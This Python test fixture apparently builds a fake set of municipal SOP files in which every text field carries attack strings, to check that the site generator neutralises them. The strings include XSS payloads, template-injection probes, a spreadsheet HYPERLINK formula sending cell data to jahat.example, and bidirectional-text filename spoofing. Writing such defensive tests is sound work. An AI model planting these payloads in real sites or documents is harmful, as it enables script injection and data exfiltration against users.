"""A city whose every text field attacks the site, as far as the check of the content lets it through."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from pydantic import BaseModel

from macros.model.kota import Kota
from macros.model.peraturan import Peraturan
from macros.model.shape import shape_of
from macros.model.sop import Langkah, Naskah
from macros.model.unit import DataUnit
from macros.source.canonical import Bentuk, ListShape, MappingShape, Text, write_markdown, write_yaml
from macros.source.yaml import Data
from tests.city import isi_berkas
from tests.history.gudang import Gudang

JAHAT = (
    """</title></script><script>alert(0)</script>"'><img src=x onerror=alert(0)>{{ 7*191 }}{% raw %}{# -->"""
)
"""Closes whatever it may stand in, then runs a script, then a template."""

RUMUS = '=HYPERLINK("https://jahat.example/?a="&A1,"klik")'
"""A formula, wherever a spreadsheet takes text for one."""

ARAH = "\u200fابج\u200e \u061cgnp.exe"
"""Turns the direction of writing with the letters and marks that are allowed; the overrides are refused."""

ALAMAT = "https://contoh.example/?a=1&b=2"
TETAP: Mapping[str, Data] = {
    "status": "berlaku",
    "sifat": ["rutin"],
    "contoh": "true",
    "luring": "true",
    "tanggal.pembuatan": "2025-01",
    "tanggal.revisi": "2025-02-01",
    "tanggal.efektif": "2025-03-01",
    "rencana_tinjauan": "2026-01-01",
    "layanan.peristiwa": ["lahir"],
    "lampiran.berkas": "f.pdf",
    "tinjauan.tanggal": "2025-04-01",
    "tinjauan.jenis": "monitoring",
    "tinjauan.formulir.mendorong_kinerja": "ya",
    "tinjauan.formulir.mudah_dipahami": "tidak",
    "tinjauan.formulir.mudah_dilaksanakan": "ya",
    "tinjauan.formulir.peran_berjalan": "ya",
    "tinjauan.formulir.mengatasi_masalah": "ya",
    "tinjauan.formulir.menjawab_kebutuhan": "ya",
    "tinjauan.formulir.saling_sinergi": "tidak",
    "tinjauan.uji_coba.langkah": "1",
    "tinjauan.uji_coba.kegiatan": "",
    "tinjauan.uji_coba.menit": ["1", "2,5", "3"],
    "tinjauan.uji_coba.menyimpang": "3",
    "bukan_tumpang_tindih.dengan": "dinas/lain",
    "jenis": "dinas",
    "pemilik": ["@dinas"],
    "pola_nomor": "{urut}/DINAS",
    "kontak.peta": ALAMAT,
    "situs": "https://sop.example",
    "repositori": "https://git.example/kota",
    "forge": "github",
    "zona_waktu": "Asia/Jakarta",
    "kertas": "f4",
    "halaman_keputusan": "true",
    "logo": "lambang.png",
    "evaluasi": "publik",
    "pelaksana_umum.id": "pemohon",
    "peristiwa.id": "lahir",
    "sejak": "2025-01-01",
    "url": ALAMAT,
}
"""What a field must hold to pass the check; every other one holds the attack."""


def isi(kelas: type[BaseModel], **lain: Data) -> dict[str, Data]:
    """Data of a model with the attack in every field that may hold any text; ``lain`` goes before, None
    leaves out.
    """
    semua = shape_of(kelas).kunci.items()
    data = {kunci: lain[kunci] if kunci in lain else _isi(rupa, kunci) for kunci, rupa in semua}
    return {kunci: nilai for kunci, nilai in data.items() if nilai is not None}


def _isi(rupa: Bentuk, di: str) -> Data:
    if di in TETAP:
        return TETAP[di]
    if isinstance(rupa, ListShape):
        return [_isi(rupa.isi, di)]
    if isinstance(rupa, MappingShape):
        return {kunci: _isi(satu, f"{di}.{kunci}") for kunci, satu in rupa.kunci.items()}
    assert isinstance(rupa, Text), f"'{di}' needs a value in TETAP"
    return JAHAT


def langkah(**lain: Data) -> Data:
    """A step with the attack in every text field."""
    tanpa: dict[str, Data] = dict.fromkeys(("id", "ya", "tidak", "cabang", "lanjut"))
    isian: dict[str, Data] = {
        "pelaksana": ["loket", "pemohon", "bagian:juru"],
        "kelengkapan": [JAHAT, JAHAT],
        "rujuk": "dinas/lain",
        "peluang_ya": "0.5",
    }
    return dict(isi(Langkah, **{**tanpa, **isian, **lain}))


def serang(data: Data, teks: str) -> Data:
    """The same data with another attack."""
    if isinstance(data, dict):
        return {kunci: serang(satu, teks) for kunci, satu in data.items()}
    if isinstance(data, list):
        return [serang(satu, teks) for satu in data]
    return data.replace(JAHAT, teks) if isinstance(data, str) else data


PROSA = """\
## Judul { {7*191} } *tebal*

[tautan](https://contoh.example/"onmouseover="alert(0)) dan &lt;script&gt;alert(0)&lt;/script&gt;

`kode < script`

```
<script>alert(0)</script>
```

[acuan]: https://contoh.example "judul&quot; onclick=&quot;alert(0)"

Lihat [acuan], {{ sop("dinas/lain", "teks <b> \\"x\\"") }}, {{ unit("dinas") }}, {{ peraturan("uu-1") }}.
"""


PROSA_UNIT = 'Lihat {{ daftar_sop() }} dan [peta](https://contoh.example/"onmouseover="alert(0)).'


def tulis(folder: Path) -> Path:
    """Lay out the city."""
    for nama, teks in _berkas().items():
        jalur = folder / nama
        jalur.parent.mkdir(parents=True, exist_ok=True)
        jalur.write_bytes(isi_berkas(nama, teks))
    return folder


def tulis_berriwayat(folder: Path) -> Path:
    """Lay out the city in a repository of its own, after a first edition in which every attack was another
    one.
    """
    gudang = Gudang(folder)
    lama = {
        nama: isi.replace("alert(0)", "alert(1)").replace("klik", "buka") for nama, isi in _berkas().items()
    }
    for edisi, judul in ((lama, JAHAT), (_berkas(), RUMUS)):
        gudang.komit({nama: isi_berkas(nama, isi) for nama, isi in edisi.items()}, judul=judul)
    return gudang.sops


def _berkas() -> dict[str, str]:
    naskah, unit = shape_of(Naskah), shape_of(DataUnit)
    cabang: Data = [{"bila": JAHAT, "ke": "akhir"}, {"bila": f"{JAHAT}.", "ke": "selesai"}]
    semua: Data = [langkah(), langkah(cabang=cabang), langkah(id="akhir", rujuk=None)]
    tertaut: dict[str, Data] = {
        "diganti_oleh": None,
        "sebelumnya": ["dinas/tua"],
        "keterkaitan": ["dinas/lain"],
        "langkah": semua,
    }
    sop = isi(Naskah, nomor=f"1 {JAHAT}", **tertaut)
    sendiri: dict[str, Data] = {
        "sebelumnya": None,
        "bukan_tumpang_tindih": None,
        "langkah": [langkah(rujuk=None)],
    }
    lain = isi(
        Naskah,
        nomor=f"2 {JAHAT}",
        nama=f"Lain {JAHAT}",
        keterkaitan=["dinas/sop"],
        diganti_oleh=None,
        **sendiri,
    )
    lama = lain | {
        "nomor": f"3 {JAHAT}",
        "nama": f"Lama {JAHAT}",
        "status": "dicabut",
        "diganti_oleh": "dinas/sop",
    }
    jabatan: Data = [
        {"id": "loket", "nama": JAHAT, "dihapus": "2024-01", "menjadi": "juru"},
        {"id": "juru", "nama": JAHAT},
    ]
    peraturan: Data = [
        isi(Peraturan, id="uu-1", status="dicabut", diubah_oleh=["uu-2"], dicabut_oleh="uu-2"),
        isi(Peraturan, id="uu-2", diubah_oleh=None, dicabut_oleh=None),
    ]
    return {
        "kota.yml": write_yaml(isi(Kota), shape_of(Kota)),
        "peraturan.yml": write_yaml(peraturan, ListShape(shape_of(Peraturan))),
        "istilah.yml": write_yaml(
            {"kartu": JAHAT, JAHAT: ["izin", RUMUS], RUMUS: ARAH, ARAH: "kartu"}, MappingShape({})
        ),
        "dinas/index.md": write_markdown(isi(DataUnit, induk="bagian", jabatan=jabatan), unit, PROSA_UNIT),
        "bagian/index.md": write_markdown(isi(DataUnit, induk=None, jabatan=jabatan), unit, ""),
        "dinas/sop.md": write_markdown(dict(sop), naskah, PROSA),
        "dinas/lain.md": write_markdown(dict(lain), naskah, '{{ sop("dinas/draf") }}'),
        "dinas/lama.md": write_markdown(dict(lama), naskah, ""),
        "dinas/rumus.md": write_markdown(_lain(lain, RUMUS, nomor=RUMUS, nama=RUMUS), naskah, RUMUS),
        "dinas/arah.md": write_markdown(_lain(lain, ARAH, nomor=f"4 {ARAH}", nama=ARAH), naskah, ARAH),
        "dinas/draf.md": write_markdown({"nama": f"Draf {JAHAT}", "status": "draf"}, naskah, ""),
        "lambang.png": "",
        "dinas/lampiran/f.pdf": "%PDF-1.7",
    }


def _lain(sop: Mapping[str, Data], teks: str, **isian: Data) -> dict[str, Data]:
    """Another SOP of the same form, whose every text attacks in another way."""
    return {kunci: serang(satu, teks) for kunci, satu in {**sop, **isian}.items()}
